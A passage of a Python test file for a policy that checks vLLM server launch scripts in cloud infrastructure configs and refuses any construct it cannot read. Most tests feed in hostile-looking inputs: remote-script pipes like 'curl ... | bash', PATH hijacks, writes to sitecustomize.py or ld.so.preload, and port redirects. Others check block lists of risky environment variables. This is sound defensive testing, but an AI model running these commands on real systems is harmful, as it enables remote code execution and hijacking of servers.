"""The launch reader proves what a resource starts or refuses it, naming the construct.

Each class of the reader's grammar (docs/reader-grammar.md) is tried with several members: a
compliant `vllm serve` that never runs while something else does, code from elsewhere,
builtins that change values, word splitting and globs, platform variable references, second
servers and published ports, vLLM's own environment variables, and resource types that run
accelerators.
"""

from __future__ import annotations

import shlex
from typing import Any

import pytest

from policies._server import ContainerSpec, Workload, read_servers, read_workload
from policies.vllm_server_readable import vllm_server_readable
from serving.launch.vllm_argv import ReadError, script_launches
from tests.policies._fixtures import SERVICE, TPU_DYNAMIC, container, rendered, service, violations

QAT = "/mnt/models/gemma-4-12B-it-qat-w4a16-ct"
BF16 = "/mnt/models/gemma-4-12B-it"
GOOD = f"vllm serve {QAT} --max-model-len=8192"
TPU_VM = "gcp:tpu/v2Vm:V2Vm"
INSTANCE = "gcp:compute/instance:Instance"


def shell_service(script: str, env: dict[str, str] | None = None) -> dict[str, Any]:
    props = service("l4")
    c = container(props)
    c["commands"] = ["sh", "-c"]
    c["args"] = [script]
    for name, value in (env or {}).items():
        c["envs"].append({"name": name, "value": value})
    return props


def refused(script: str, env: dict[str, str] | None = None) -> str:
    """The policy refuses the script in a GPU container; the reader's own message (which
    names the construct) is returned."""
    messages = violations(vllm_server_readable, SERVICE, shell_service(script, env))
    assert messages, f"accepted: {script!r}"
    assert all("cannot read the vLLM server" in m for m in messages)
    try:
        script_launches(script, env)
    except ReadError as exc:
        return str(exc)
    return "\n".join(messages)  # read, and refused for what it serves or is given


def test_a_plain_script_is_read() -> None:
    for script in (
        GOOD,
        f'set -eu\nexport HF_HUB_OFFLINE=1\nM={QAT}\nexec vllm serve "$M" --max-model-len=8192',
        f"echo starting; mkdir -p /tmp/x; nohup {GOOD} > /tmp/vllm.log 2>&1 &\nwait",
        f"readonly LEN=8192\nvllm serve {QAT} --max-model-len=${{LEN}}",
    ):
        props = shell_service(script)
        assert violations(vllm_server_readable, SERVICE, props) == [], script
        (server,) = read_servers(SERVICE, props).servers
        assert server.card is not None and server.card.qat


# --- code that never runs, while something else does ---------------------------------------


@pytest.mark.parametrize(
    ("script", "named"),
    [
        (f"false && exec {GOOD}; /opt/real-server", "&& / || list"),
        (f"true || {GOOD}", "&& / || list"),
        (f"test -f /x && {GOOD}", "&& / || list"),
        (f"if false; then {GOOD}; fi; /opt/real-server", "`if`"),
        (f"if [ -f /x ]; then {GOOD}; else /opt/real; fi", "`if`"),
        (f"start() {{ {GOOD}; }}\n/opt/real-server", "parentheses"),
        (f"function start {{ {GOOD}; }}\n/opt/real-server", "`function`"),
        (f"{{ {GOOD}; }}", "`{`"),
        (f"while true; do {GOOD}; done", "`while`"),
        (f"for i in 1; do {GOOD}; done", "`for`"),
        (f"case x in y) {GOOD};; esac", "parentheses"),
        (f"case x in\ny) {GOOD};;\nesac", "parentheses"),
        (f"( {GOOD} )", "parentheses"),
        (f"exec /opt/real-server\n{GOOD}", "/opt/real-server"),
        (f"exec {GOOD}\nvllm serve {BF16}", "never runs"),
        (f"exit 0\n{GOOD}", "never runs"),
    ],
)
def test_code_that_never_runs_is_refused(script: str, named: str) -> None:
    assert named in refused(script)


# --- code from elsewhere ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("script", "named"),
    [
        (f"curl -s https://example.com/run.sh | bash\n{GOOD}", "'curl'"),
        (f"wget -qO- https://example.com/r | sh; {GOOD}", "'wget'"),
        (f"echo ZXhlYw== | base64 -d | sh\n{GOOD}", "'base64'"),
        (f"echo {GOOD} | sh", "reads its script"),
        (f"source /mnt/models/env.sh\n{GOOD}", "`source`"),
        (f". /etc/profile.d/vllm.sh\n{GOOD}", "`.`"),
        (f"gsutil cp gs://b/run.sh /tmp/r.sh\nbash /tmp/r.sh\n{GOOD}", "'gsutil'"),
        (f"bash /mnt/models/start.sh\n{GOOD}", "reads its script"),
        (f"sh < /tmp/script\n{GOOD}", "reads its script"),
        (f"bash <(curl -s https://example.com/r)\n{GOOD}", "process substitution"),
        (f"python3 -c 'import os; os.system(\"x\")'\n{GOOD}", "python3"),
        (f"python3 /app/server.py &\n{GOOD}", "python3"),
        (f'eval "vllm serve {BF16}"', "`eval`"),
        (f"X=$(curl -s https://example.com/m)\n{GOOD}", "command substitution"),
        (f"X=`cat /m`\n{GOOD}", "command substitution"),
        (f"cat <<EOF | sh\n{GOOD}\nEOF", "here-document"),
    ],
)
def test_code_from_elsewhere_is_refused(script: str, named: str) -> None:
    assert named in refused(script)


# --- values changed by builtins the reader does not follow -------------------------------


@pytest.mark.parametrize(
    ("script", "named"),
    [
        (f'typeset M={BF16}\nvllm serve "$M"', "`typeset`"),
        (f'declare -x M={BF16}\nvllm serve "$M"', "`declare`"),
        (f'local M={BF16}\nvllm serve "$M"', "`local`"),
        (f"let N=131072\n{GOOD} --max-num-seqs=$N", "`let`"),
        (f'printf -v M %s {BF16}\nvllm serve "$M"', "printf -v"),
        ('read M < /tmp/m\nvllm serve "$M"', "`read`"),
        (f"mapfile -t A < /x\n{GOOD}", "`mapfile`"),
        (f'M={QAT}\nM+=-x\nvllm serve "$M"', "M+=-x"),
        (f"N=$((131072))\n{GOOD}", "arithmetic"),
        (f': ${{M:={BF16}}}\nvllm serve "$M"', "parameter expansion"),
        ("set -- a b\n" + GOOD, "positional parameters"),
        (f"export -n X\n{GOOD}", "options of export"),
        (f"alias vllm=/opt/other\n{GOOD}", "`alias`"),
        (f"IFS=/\n{GOOD}", "IFS"),
        (f"trap '/opt/x' EXIT\n{GOOD}", "`trap`"),
        (f"shopt -s expand_aliases\n{GOOD}", "`shopt`"),
    ],
)
def test_builtins_that_change_values_are_refused(script: str, named: str) -> None:
    assert named in refused(script)


# --- word splitting, globs, tilde and brace expansion ------------------------------------


@pytest.mark.parametrize(
    ("script", "env", "named"),
    [
        (f"{GOOD} --max-num-seqs $N", {"N": "8 --max-model-len=131072"}, "split into words"),
        (f"{GOOD} --max-num-seqs ${{N}}", {"N": "8\t--x"}, "split into words"),
        (f"{GOOD} $EMPTY --max-num-seqs 8", {"EMPTY": ""}, "split into words"),
        ("vllm serve $M", {"M": "/mnt/models/gemma-4-12B-it-qat-*"}, "glob"),
        ("vllm serve /mnt/models/gemma-4-12B-it-qat-w4a16-c?", {}, "glob"),
        ("vllm serve /mnt/models/gemma-4-12B-it-qat-w4a16-c[t]", {}, "glob"),
        ("vllm serve /mnt/models/gemma-4-12B-it*", {}, "glob"),
        ("vllm serve ~/models/x", {}, "tilde"),
        ("vllm serve /mnt/models/{a,b}", {}, "brace expansion"),
        ("vllm serve $UNSET_MODEL", {}, "no value the reader knows"),
        ("vllm serve $1", {}, "special parameter"),
        ('vllm serve "$@"', {}, "special parameter"),
        ("vllm serve $'\\x2fmnt'", {}, "ANSI-C"),
    ],
)
def test_expansions_that_split_or_glob_are_refused(
    script: str, env: dict[str, str], named: str
) -> None:
    assert named in refused(script, env)


@pytest.mark.parametrize(
    "model", ["'/mnt/models/gemma-4-12B-it-qat-*'", '"/mnt/models/gemma-4-12B-it-qat-w4a16-c?"']
)
def test_a_quoted_glob_is_a_path_no_checkpoint_has(model: str) -> None:
    assert "glob" in refused(f"vllm serve {model} --max-model-len=8192")


def test_a_quoted_expansion_with_spaces_is_one_word() -> None:
    props = shell_service(f'{GOOD} --served-model-name "$N"', {"N": "a b"})
    assert violations(vllm_server_readable, SERVICE, props) == []
    (server,) = read_servers(SERVICE, props).servers
    assert server.args["served-model-name"] == ["a b"]


# --- Cloud Run's own $(VAR) references ---------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["serve", "$(MODEL)", "--max-model-len=8192"],
        ["serve", QAT, "--max-model-len=$(LEN)"],
        ["serve", QAT, "--max-model-len=8192", "--served-model-name=$$(x)"],
    ],
)
def test_cloud_run_variable_references_are_refused(args: list[str]) -> None:
    props = service("l4")
    c = container(props)
    c["commands"] = ["vllm"]
    c["args"] = args
    c["envs"] += [{"name": "MODEL", "value": QAT}, {"name": "LEN", "value": "131072"}]
    (message,) = violations(vllm_server_readable, SERVICE, props)
    assert "$(...)" in message and "Cloud Run" in message


def test_kubernetes_variable_references_are_expanded_as_kubernetes_does() -> None:
    spec = ContainerSpec(
        name="vllm",
        image="vllm/vllm-openai:v0.27.1",
        command=["vllm", "serve"],
        args=["$(MODEL)", "--max-model-len=$(LEN)", "--served-model-name=$$(MODEL)"],
        env={"MODEL": QAT, "LEN": "131072"},
        holds_accelerator=True,
        volume_mounts=(("models", "/mnt/models"),),
        variable_references="expand",
    )
    workload = Workload(
        resource_type="kubernetes:apps/v1:Deployment",
        accelerator="nvidia-l4",
        containers=(spec,),
        runs_accelerator=True,
        gcs_volumes=frozenset({"models"}),
    )
    reading = read_workload(workload)
    assert reading.problems == []
    (server,) = reading.servers
    assert server.args["max-model-len"] == "131072"
    assert server.args["served-model-name"] == ["$(MODEL)"]
    assert server.card is not None and server.card.qat
    secret = ContainerSpec(**{**spec.__dict__, "env": {"MODEL": None, "LEN": "1"}})
    reading = read_workload(Workload(**{**workload.__dict__, "containers": (secret,)}))
    assert any("$(MODEL), whose value is not known" in p for p in reading.problems)


# --- second servers and ports the firewall policy does not follow -----------------------

TPU_SCRIPT = (
    "#!/bin/bash\nset -euo pipefail\nreadonly IMAGE=vllm/vllm-tpu:v0.27.0\n"
    'docker pull "${IMAGE}"\n'
    'docker run -d --name=vllm --net=host -e HF_TOKEN "${IMAGE}" \\\n'
    "  vllm serve google/gemma-4-12B-it --max-model-len=4096 --port=8000\n"
)


def tpu_vm(script: str) -> dict[str, Any]:
    return {"acceleratorType": "v6e-1", "metadata": {"startup-script": script}}


def test_a_plain_tpu_script_is_read() -> None:
    assert violations(vllm_server_readable, TPU_VM, tpu_vm(TPU_SCRIPT)) == []
    (server,) = read_servers(TPU_VM, tpu_vm(TPU_SCRIPT)).servers
    assert server.image == "vllm/vllm-tpu:v0.27.0"
    assert server.checkpoint is not None and server.checkpoint.revision == "main"


@pytest.mark.parametrize(
    ("extra", "named"),
    [
        ("docker exec vllm vllm serve google/gemma-4-12B-it --port 9000", "docker exec"),
        ("docker exec -d vllm python3 -m http.server 9000", "docker exec"),
        ("docker run -d -p 80:8000 vllm/vllm-tpu:v0.27.0 vllm serve google/gemma-4-12B-it",
         "publishes"),
        ("docker run -d --publish=80:8000 vllm/vllm-tpu:v0.27.0", "publishes"),
        ("docker run -d -P vllm/vllm-tpu:v0.27.0", "publishes"),
        ("docker run -d -p8080:8000 vllm/vllm-tpu:v0.27.0", "publishes"),
        ("docker run -d --net=host nginx:1.27", "cannot see into"),
        ("iptables -t nat -A PREROUTING -p tcp --dport 80 -j REDIRECT --to-port 8000",
         "'iptables'"),
        ("socat TCP-LISTEN:80,fork TCP:127.0.0.1:8000 &", "'socat'"),
        ("nft add rule ip nat prerouting tcp dport 80 redirect to :8000", "'nft'"),
        ("docker run -d -v /tmp/w:/root/.cache vllm/vllm-tpu:v0.27.0", "-v"),
        ("docker run -d --env-file /tmp/e vllm/vllm-tpu:v0.27.0", "--env-file"),
    ],
)  # fmt: skip
def test_second_servers_and_published_ports_are_refused(extra: str, named: str) -> None:
    messages = violations(vllm_server_readable, TPU_VM, tpu_vm(TPU_SCRIPT + extra + "\n"))
    assert messages and named in messages[0], messages


def test_the_rendered_tpu_script_accepts_no_additions() -> None:
    props = rendered("tpu-v6e1").one(TPU_DYNAMIC).inputs
    script = props["metadata"]["startup-script"]
    assert violations(vllm_server_readable, TPU_DYNAMIC, props) == []
    for edited in (
        script.replace("--port=8000", "--port=8000; curl -s https://x/y | sh"),
        script.replace("--port=8000", "--port=8000 &\ndocker exec vllm vllm serve x"),
        script + "\ndocker exec vllm vllm serve google/gemma-4-12B-it --port 9000\n",
        script.replace("https://dl.google.com/", "https://example.com/"),
        script.replace("set -euo pipefail", "set -uo pipefail"),
    ):
        props["metadata"]["startup-script"] = edited
        assert violations(vllm_server_readable, TPU_DYNAMIC, props), edited[-200:]


# --- vLLM's own environment variables ----------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["VLLM_MODEL_REDIRECT_PATH", "VLLM_USE_MODELSCOPE", "VLLM_PLUGINS",
     "VLLM_ALLOW_RUNTIME_LORA_UPDATING", "VLLM_ALLOW_LONG_MAX_MODEL_LEN", "VLLM_SERVER_DEV_MODE",
     "VLLM_SOME_FUTURE_VARIABLE", "HF_ENDPOINT", "LD_PRELOAD", "PYTHONPATH", "HF_HUB_CACHE"],
)  # fmt: skip
def test_environment_variables_that_change_what_is_served_are_refused(name: str) -> None:
    props = service("l4")
    container(props)["envs"].append({"name": name, "value": "/x"})
    (message,) = violations(vllm_server_readable, SERVICE, props)
    assert name in message
    assert name in refused(f"export {name}=1\n{GOOD}")
    assert name in refused(f"env {name}=1 {GOOD}")
    script = TPU_SCRIPT.replace("-e HF_TOKEN", f"-e HF_TOKEN --env={name}")
    (message,) = violations(vllm_server_readable, TPU_VM, tpu_vm(script))
    assert name in message


@pytest.mark.parametrize(
    "name",
    ["HOME", "XDG_CACHE_HOME", "HF_MODULES_CACHE", "HF_HUB_OFFLINE_X", "TRANSFORMERS_VERBOSITY_X",
     "PYTHONINSPECT", "PYTHONBREAKPOINT", "PYTHONWARNINGS", "LD_AUDIT", "GCONV_PATH",
     "GLIBC_TUNABLES", "TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR", "SSL_CERT_FILE",
     "REQUESTS_CA_BUNDLE", "https_proxy", "HTTPS_PROXY", "PS4", "TMPDIR", "HF_TOKEN_PATH"],
)  # fmt: skip
def test_variables_of_the_libraries_under_vllm_are_refused_by_family(name: str) -> None:
    # Not only the names once listed: the whole family of variables the loader, Python and the
    # Hugging Face libraries read (a user-site `usercustomize` under $HOME, a cache moved by
    # XDG_CACHE_HOME, remote code from HF_MODULES_CACHE, a proxy and CA bundle for downloads).
    assert name in refused(f"export {name}=/x\n{GOOD}")
    props = service("l4")
    container(props)["envs"].append({"name": name, "value": "/x"})
    (message,) = violations(vllm_server_readable, SERVICE, props)
    assert name in message


@pytest.mark.parametrize(
    "name", ["HF_TOKEN", "HF_HUB_OFFLINE", "PYTHONUNBUFFERED", "PYTORCH_CUDA_ALLOC_CONF", "MODEL"]
)
def test_accepted_members_and_unrelated_names_stay_readable(name: str) -> None:
    props = shell_service(f"export {name}=1\n{GOOD}")
    assert violations(vllm_server_readable, SERVICE, props) == []


def test_a_secret_vllm_variable_is_refused_by_name_too() -> None:
    props = service("l4")
    container(props)["envs"].append(
        {"name": "VLLM_MODEL_REDIRECT_PATH", "valueSource": {"secretKeyRef": {"secret": "s"}}}
    )
    (message,) = violations(vllm_server_readable, SERVICE, props)
    assert "VLLM_MODEL_REDIRECT_PATH" in message


# --- resource types that run accelerators ------------------------------------------------


@pytest.mark.parametrize(
    ("type_", "props"),
    [
        ("gcp:tpu/v2QueuedResource:V2QueuedResource",
         {"tpu": {"nodeSpecs": [{"node": {"acceleratorType": "v6e-1", "runtimeVersion": "x"}}]}}),
        (TPU_VM, {"acceleratorType": "v6e-1"}),
        (TPU_VM, {"acceleratorType": "v6e-1", "metadata": {"startup-script": "/opt/run\n"}}),
        (INSTANCE, {"machineType": "g2-standard-8"}),
        (INSTANCE, {"machineType": "a3-highgpu-1g", "metadataStartupScript": "/opt/run"}),
        (INSTANCE, {"machineType": "n1-standard-8",
                    "guestAccelerators": [{"type": "nvidia-tesla-t4", "count": 1}]}),
        (INSTANCE, {"machineType": "ct5lp-hightpu-4t"}),
        (INSTANCE, {"machineType": "a2-highgpu-1g",
                    "metadata": {"startup-script-url": "gs://b/run.sh"}}),
        (INSTANCE, {"machineType": "g2-standard-8", "metadata": {"user-data": "#cloud-config"}}),
        ("gcp:compute/instanceTemplate:InstanceTemplate",
         {"machineType": "n1-standard-4", "guestAccelerators": [{"type": "t4", "count": 2}]}),
        ("gcp:compute/regionInstanceTemplate:RegionInstanceTemplate",
         {"machineType": "g2-standard-4"}),
    ],
)  # fmt: skip
def test_resources_that_run_accelerators_fail_closed_unless_read(
    type_: str, props: dict[str, Any]
) -> None:
    assert violations(vllm_server_readable, type_, props)


def test_an_accelerator_instance_whose_script_is_read_passes() -> None:
    props = {"machineType": "g2-standard-8", "metadataStartupScript": TPU_SCRIPT}
    assert violations(vllm_server_readable, INSTANCE, props) == []
    assert read_servers(INSTANCE, props).servers


def test_machines_without_accelerators_are_not_judged() -> None:
    assert violations(vllm_server_readable, INSTANCE, {"machineType": "e2-small"}) == []
    props = {
        "machineType": "e2-small",
        "guestAccelerators": [{"type": "t4", "count": 0}],
        "metadata": {"startup-script-url": "gs://b/x"},
    }
    assert violations(vllm_server_readable, INSTANCE, props) == []


def test_script_errors_name_the_construct() -> None:
    with pytest.raises(ReadError, match="`typeset`"):
        script_launches(f"typeset X=1\n{GOOD}")


@pytest.mark.parametrize(
    ("script", "named"),
    [
        (f"PATH=/tmp/evil:/usr/bin\n{GOOD}", "PATH"),
        (f"export PATH=/tmp/evil\n{GOOD}", "PATH"),
        (f"BASH_ENV=/tmp/x bash -c '{GOOD}'", "BASH_ENV"),
        (f"echo 'export VLLM_PLUGINS=x' >> /etc/profile\nbash -lc '{GOOD}'", "login"),
        (f"bash --login -c '{GOOD}'", "login"),
        (f"bash -i -c '{GOOD}'", "interactive"),
    ],
)
def test_what_changes_which_program_runs_is_refused(script: str, named: str) -> None:
    assert named in refused(script)


def test_env_dash_i_clears_what_the_inner_shell_sees() -> None:
    # `env -i` empties the environment: $M is not the container's value any more.
    for clear in ("env -i", "env -", "env --ignore-environment", "env -u M"):
        assert "no value the reader knows" in refused(
            f"{clear} sh -c 'vllm serve \"$M\"'", {"M": QAT}
        )


def test_a_machine_without_accelerators_may_run_any_script_that_starts_no_vllm() -> None:
    props = {"machineType": "e2-small", "metadataStartupScript": "curl -s https://x/y | bash\n"}
    assert violations(vllm_server_readable, INSTANCE, props) == []
    props["metadataStartupScript"] = f"curl -s https://x/y | bash\n{GOOD}\n"
    assert violations(vllm_server_readable, INSTANCE, props)


def test_cloud_run_v1_gcsfuse_volumes_hold_the_checkpoint() -> None:
    props: dict[str, Any] = {
        "template": {
            "spec": {
                "containers": [
                    {
                        "image": "vllm/vllm-openai:v0.27.1",
                        "commands": ["vllm", "serve"],
                        "args": [QAT, "--max-model-len=8192"],
                        "volumeMounts": [{"name": "models", "mountPath": "/mnt/models"}],
                    }
                ],
                "volumes": [{"name": "models", "csi": {"driver": "gcsfuse.run.googleapis.com"}}],
                "nodeSelector": {"run.googleapis.com/accelerator": "nvidia-l4"},
            }
        }
    }
    v1 = "gcp:cloudrun/service:Service"
    assert violations(vllm_server_readable, v1, props) == []
    (server,) = read_servers(v1, props).servers
    assert server.card is not None and server.card.qat
    props["template"]["spec"]["volumes"][0]["csi"]["driver"] = "other"
    assert violations(vllm_server_readable, v1, props)


@pytest.mark.parametrize(
    "option", ["-dp 80:8000", "-dp80:8000", "-itdp 80:8000", "-dP", "-p=80:8000"]
)
def test_published_ports_in_flag_clusters_are_refused(option: str) -> None:
    script = TPU_SCRIPT.replace("docker run -d ", f"docker run {option} ")
    messages = violations(vllm_server_readable, TPU_VM, tpu_vm(script))
    assert messages and "publishes" in messages[0], messages


@pytest.mark.parametrize("script", [f"M=~/m\n{GOOD}", f"P=/x:~/y\n{GOOD}", f"echo a~\n{GOOD}"])
def test_every_unquoted_tilde_is_refused(script: str) -> None:
    assert "tilde" in refused(script)


def test_a_gpu_workload_must_say_which_container_holds_the_gpu() -> None:
    props = service("l4")
    del container(props)["resources"]["limits"]["nvidia.com/gpu"]
    (message,) = violations(vllm_server_readable, SERVICE, props)
    assert "none declares the nvidia.com/gpu limit" in message


def test_cloud_run_env_values_with_references_are_not_known() -> None:
    # Cloud Run v2's API reference has documented `$(NAME)` expansion in env values: such a
    # value is not known, so it cannot become vLLM's model.
    props = shell_service('vllm serve "$M" --max-model-len=8192', {"B": QAT, "M": "$(B)"})
    (message,) = violations(vllm_server_readable, SERVICE, props)
    assert "$M" in message and "no value the reader knows" in message


def test_kubernetes_env_values_expand_from_earlier_variables() -> None:
    spec = ContainerSpec(
        name="vllm",
        image="vllm/vllm-openai:v0.27.1",
        command=["sh", "-c"],
        args=['vllm serve "$M" --max-model-len=8192'],
        env={"DIR": "/mnt/models", "M": "$(DIR)/gemma-4-12B-it-qat-w4a16-ct"},
        holds_accelerator=True,
        volume_mounts=(("models", "/mnt/models"),),
        variable_references="expand",
    )
    workload = Workload(
        resource_type="kubernetes:core/v1:Pod",
        accelerator="nvidia-l4",
        containers=(spec,),
        runs_accelerator=True,
        gcs_volumes=frozenset({"models"}),
    )
    reading = read_workload(workload)
    assert reading.problems == []
    assert reading.servers[0].model_ref == QAT


@pytest.mark.parametrize("word", ['"M"=/x', "'M=/x'", "M\\=/x", '"M=/x"'])
def test_a_quoted_assignment_is_a_command_not_an_assignment(word: str) -> None:
    # The shell runs a program named `M=/x` (not found): M stays unset.
    assert "a program the reader does not know" in refused(f'{word}\nvllm serve "$M"')


def test_a_backslash_newline_inside_a_word_joins_it() -> None:
    props = shell_service(
        "vllm serve /mnt/models/gemma-4-12B-it-qat-\\\nw4a16-ct --max-model-len=8192"
    )
    assert violations(vllm_server_readable, SERVICE, props) == []
    (server,) = read_servers(SERVICE, props).servers
    assert server.model_ref == QAT


@pytest.mark.parametrize(
    "script",
    [
        f"true || echo x | {GOOD}",
        f"false && echo | {GOOD} | tee /tmp/log",
        f"{GOOD} | tee /tmp/log || /bin/true",
        f"false &&\n{GOOD}",
    ],
)
def test_a_pipeline_in_an_and_or_list_is_conditional(script: str) -> None:
    assert "&& / || list" in refused(script)


@pytest.mark.parametrize("script", [f"{GOOD} |", f"{GOOD} &&", "echo ||"])
def test_a_trailing_operator_is_refused(script: str) -> None:
    assert "no command after it" in refused(script)


def test_exec_or_exit_inside_a_pipeline_ends_only_its_subshell() -> None:
    props = shell_service(f"echo x | exit 0\n{GOOD}")
    assert violations(vllm_server_readable, SERVICE, props) == []


def test_exec_without_a_program_only_redirects() -> None:
    props = shell_service(f"exec 2>/tmp/err.log\n{GOOD}")
    assert violations(vllm_server_readable, SERVICE, props) == []


@pytest.mark.parametrize("option", ["-i", "-s", "--login", "-Ei"])
def test_sudo_through_a_shell_is_refused(option: str) -> None:
    assert "start-up" in refused(f"sudo {option} {GOOD}")


def test_the_reader_has_one_import_direction() -> None:
    import ast
    from pathlib import Path

    source = Path(__file__).resolve().parents[2] / "policies" / "_resources.py"
    imported = {
        node.module
        for node in ast.walk(ast.parse(source.read_text()))
        if isinstance(node, ast.ImportFrom) and node.module
    }
    assert "policies._server" not in imported


@pytest.mark.parametrize("remap", ["sub-path", "only-dir=other", "--only-dir=other"])
def test_a_cloud_run_model_mount_whose_root_is_another_folder_is_refused(remap: str) -> None:
    # Cloud Run's volumeMounts.subPath and gcsfuse's only-dir make /mnt/models show a folder
    # of the bucket, so /mnt/models/<folder> is not what the download job wrote.
    props = service("l4")
    if remap == "sub-path":
        container(props)["volumeMounts"][0]["subPath"] = "other"
    else:
        volume = next(v for v in props["template"]["volumes"] if v.get("gcs"))
        volume["gcs"]["mountOptions"] = [*volume["gcs"].get("mountOptions", []), remap]
    messages = violations(vllm_server_readable, SERVICE, props)
    assert any("subPath, subPathExpr or only-dir" in m for m in messages), messages


def test_a_cloud_run_vllm_container_mounts_only_the_model_bucket() -> None:
    props = service("l4")
    props["template"]["volumes"].append({"name": "scratch", "emptyDir": {"medium": "MEMORY"}})
    container(props)["volumeMounts"].append({"name": "scratch", "mountPath": "/root/.cache"})
    (message,) = violations(vllm_server_readable, SERVICE, props)
    assert "mounts volume 'scratch'" in message


# --- files a script writes, which what starts next may read back ------------------------

SITE = "/usr/local/lib/python3.12/dist-packages"


@pytest.mark.parametrize(
    "script",
    [
        f"echo 'import os' > {SITE}/sitecustomize.py\n{GOOD}",
        f"echo /opt/x >> {SITE}/evil.pth; {GOOD}",
        f"printf '%s' '{{}}' > {QAT}/config.json\n{GOOD}",
        f"echo x | tee {SITE}/sitecustomize.py\n{GOOD}",
        f"echo x | tee -a /etc/profile > /dev/null\n{GOOD}",
        f"echo x | tee /tmp/ok.log {SITE}/usercustomize.py\n{GOOD}",
        f"{GOOD} > /etc/ld.so.preload",
        f"cd /tmp\n{GOOD} > vllm.log",
        f'F={SITE}/sitecustomize.py\necho x > "$F"\nF=/tmp/ok.log\n{GOOD}',
        f"echo x >| /root/.bashrc; {GOOD}",
        f"echo x &> /tmp/a.log.py; {GOOD}",
        f"{GOOD} < /tmp/input",
        f": > /tmp/../{SITE}/sitecustomize.log\n{GOOD}",
    ],
)
def test_writing_files_what_starts_next_may_read_is_refused(script: str) -> None:
    # A redirection's target used to be read and dropped: a sitecustomize.py or .pth file
    # Python imports at start, or a config.json in the served folder, changes what vLLM
    # runs while its command line stays compliant.
    message = refused(script)
    assert "writes" in message or "reads" in message, message


@pytest.mark.parametrize(
    "script",
    [
        f"{GOOD} > /dev/null 2>&1",
        f"{GOOD} 2>&1 | tee -a /var/log/vllm.log",
        f"exec >/dev/stdout 2>&-\n{GOOD}",
        f"echo starting >&2\n{GOOD} > /tmp/vllm.log 2> /var/log/vllm-err.log < /dev/null",
    ],
)
def test_logs_and_standard_streams_may_be_written(script: str) -> None:
    assert violations(vllm_server_readable, SERVICE, shell_service(script)) == []


@pytest.mark.parametrize(
    ("prefix", "named"),
    [
        ("builtin", "`builtin vllm`"),
        ("command -v", "`command -v`"),
        ("command -V", "`command -V`"),
        ("command -pv", "`command -pv`"),
        ("exec command -v", "`command -v`"),
    ],
)
def test_prefixes_under_which_the_server_never_runs_are_refused(prefix: str, named: str) -> None:
    # `builtin vllm serve ...` fails (vllm is no builtin) and `command -v vllm serve ...`
    # only prints a path: a compliant server that never starts, while something else does.
    assert named in refused(f"{prefix} {GOOD}")


@pytest.mark.parametrize("prefix", ["command", "command -p", "command --", "exec -a vllm"])
def test_prefixes_that_run_the_server_are_read(prefix: str) -> None:
    props = shell_service(f"{prefix} {GOOD}")
    assert violations(vllm_server_readable, SERVICE, props) == []
    (server,) = read_servers(SERVICE, props).servers
    assert server.card is not None and server.card.qat


@pytest.mark.parametrize(
    ("options", "named"),
    [
        ("--trust-remote-code", "--trust-remote-code"),
        ("--trust-remote", "--trust-remote-code"),
        ("--trust_remote_code", "--trust-remote-code"),
        ("--hf-overrides '{\"max_position_embeddings\": 262144}'", "--hf-overrides"),
        ("--hf-overrides.text_config.num_hidden_layers=2", "--hf-overrides"),
        ("--quantization-config '{}'", "--quantization-config"),
        ("--model-class-overrides '{}'", "--model-class-overrides"),
        ("--io-processor-plugin p", "--io-processor-plugin"),
        ("--reasoning-parser-plugin /tmp/p.py", "--reasoning-parser-plugin"),
        ('--kv-transfer-config \'{"kv_connector_module_path": "x"}\'', "--kv-transfer-config"),
        ("--kv-transfer-config.kv_connector=X", "--kv-transfer-config"),
        ("--ec-transfer-config '{}'", "--ec-transfer-config"),
        ("--weight-transfer-config '{}'", "--weight-transfer-config"),
        ("--additional-config '{}'", "--additional-config"),
        ("--download-dir /tmp/d", "--download-dir"),
        ("--allowed-local-media-path /", "--allowed-local-media-path"),
        ("--trust-request-chat-template", "--trust-request-chat-template"),
        ("--download_dir=/tmp/d", "--download-dir"),
        ("--dtype float32", "--dtype 'float32'"),
        ("--dtype=half", "--dtype 'half'"),
        ("--dtype float", "--dtype 'float'"),
    ],
)
def test_options_that_change_the_model_code_or_weights_are_refused(
    options: str, named: str
) -> None:
    # Each changes what is loaded (remote code, the config, the weights, their precision) so
    # the catalogue's identity and the memory policy's count no longer hold.
    assert named in refused(f"{GOOD} {options}")


@pytest.mark.parametrize("options", ["--dtype bfloat16", "--dtype=auto", "--no-trust-remote-code"])
def test_options_that_keep_the_checkpoint_as_it_is_are_read(options: str) -> None:
    assert violations(vllm_server_readable, SERVICE, shell_service(f"{GOOD} {options}")) == []


@pytest.mark.parametrize(
    "key",
    ["windows-startup-script-ps1", "windows-startup-script-cmd", "windows-startup-script-url",
     "sysprep-specialize-script-ps1", "shutdown-script", "user-data",
     "gce-container-declaration"],
)  # fmt: skip
def test_every_metadata_script_key_on_an_accelerator_machine_is_refused(key: str) -> None:
    props = {"machineType": "g2-standard-8", "metadata": {key: "x", "startup-script": TPU_SCRIPT}}
    (message,) = violations(vllm_server_readable, INSTANCE, props)
    assert key in message


@pytest.mark.parametrize(
    ("type_", "props"),
    [
        ("gcp:compute/projectMetadata:ProjectMetadata",
         {"metadata": {"startup-script": "curl -s https://x/r | sh"}}),
        ("gcp:compute/projectMetadata:ProjectMetadata", {"metadata": {"startup-script-url": "gs://b/r"}}),
        ("gcp:compute/projectMetadataItem:ProjectMetadataItem",
         {"key": "startup-script", "value": "/opt/real-server"}),
        ("gcp:compute/projectMetadataItem:ProjectMetadataItem",
         {"key": "windows-startup-script-ps1", "value": "x"}),
    ],
)  # fmt: skip
def test_project_metadata_scripts_are_refused(type_: str, props: dict[str, Any]) -> None:
    # Instances inherit project metadata: a startup script there runs on the accelerator
    # machines too, beside (or instead of) the one the policies read.
    (message,) = violations(vllm_server_readable, type_, props)
    assert "every Compute Engine machine of the project" in message


def test_project_metadata_without_scripts_passes() -> None:
    props = {"metadata": {"enable-oslogin": "TRUE"}}
    assert (
        violations(vllm_server_readable, "gcp:compute/projectMetadata:ProjectMetadata", props) == []
    )


@pytest.mark.parametrize(
    "program",
    ["/tmp/vllm", "./vllm", "bin/vllm", "/mnt/models/bin/vllm", "/opt/x/sh", "/tmp/python3",
     "/home/u/env", "/tmp/nohup"],
)  # fmt: skip
def test_a_known_program_named_by_another_path_is_refused(program: str) -> None:
    # `/tmp/vllm` is whatever was put there, not vLLM: only the system folders (and PATH,
    # which a script may not change) say what a program is.
    if program.endswith(("sh", "env", "nohup")):
